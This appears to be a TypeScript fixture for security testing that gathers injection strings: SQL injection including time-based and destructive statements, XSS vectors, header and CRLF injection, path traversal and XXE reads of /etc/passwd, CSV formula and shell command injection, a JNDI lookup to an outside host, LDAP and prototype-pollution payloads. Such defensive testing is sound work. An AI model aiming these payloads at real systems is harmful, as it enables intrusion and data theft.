import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

/** Strings that mean something to an interpreter that trusts its input. */

/** A table that nothing of the product knows: whoever changes it has run what somebody typed. */
export const CANARY = 'injection_canary';
export const SLEEP_S = 4;

const SQL = [
  `'; insert into ${CANARY} values (2); --`,
  `'); delete from ${CANARY}; --`,
  `"; update ${CANARY} set id = 3; --`,
  `1; insert into ${CANARY} values (2)`,
  `' union select version() --`,
  `' or '1'='1`,
  `' or 1=1 --`,
  `\\'; insert into ${CANARY} values (2); --`,
  `' || (select pg_sleep(${SLEEP_S}))::text || '`,
  `'; select pg_sleep(${SLEEP_S}); --`,
  `1 and (select 1 from pg_sleep(${SLEEP_S})) is not null`,
  `x' and 1=cast((select current_user) as int) --`,
  `id; drop table ${CANARY} cascade`,
  `$$; delete from ${CANARY}; $$`,
  `%' escape '!' or 1=1 --`,
  `{"$where":"sleep(4000)"}`,
];
const HTML = [
  `<script>window.planted=1</script>`,
  `"><img src=x onerror=window.planted=1>`,
  `<svg/onload=window.planted=1>`,
  `javascript:window.planted=1`,
  `</title><script>window.planted=1</script>`,
  `{{constructor.constructor('window.planted=1')()}}`,
  `&lt;script&gt;window.planted=1&lt;/script&gt;`,
];
const OTHERS = [
  `x\r\nX-Planted: 1`,
  `x%0d%0aSet-Cookie:planted=1`,
  `../../../../../../etc/passwd`,
  `..\\..\\..\\windows\\win.ini`,
  `....//....//etc/passwd%00.png`,
  `file:///etc/passwd`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  '`touch /planted`',
  `$(sleep ${SLEEP_S})`,
  `; sleep ${SLEEP_S} ;`,
  `*)(uid=*))(|(uid=*`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `\${jndi:ldap://planted.example/a}`,
  `a@b.example\r\nBcc: planted@example.com`,
  `{"__proto__":{"isAdmin":true}}`,
  `(a+)+$`,
];

/** Lists that others made, where the folder of sample data stands beside the repository. */
const SHARED = fileURLToPath(new URL('../../../../shared/data/injection/', import.meta.url));
const LISTS = ['path-traversal', 'sql-auth-bypass', 'sql-error-based', 'xss-basic', 'xss-quick'];

export const OWN_INJECTIONS: readonly string[] = [...SQL, ...HTML, ...OTHERS];

export const hasLists = existsSync(SHARED);

/** All strings, each once. */
export const injections = (): readonly string[] =>
  [
    ...new Set([
      ...OWN_INJECTIONS,
      ...(hasLists ? LISTS.flatMap(name => readFileSync(`${SHARED}${name}.txt`, 'utf8').split('\n')) : []),
    ]),
  ].filter(line => line.trim() !== '');
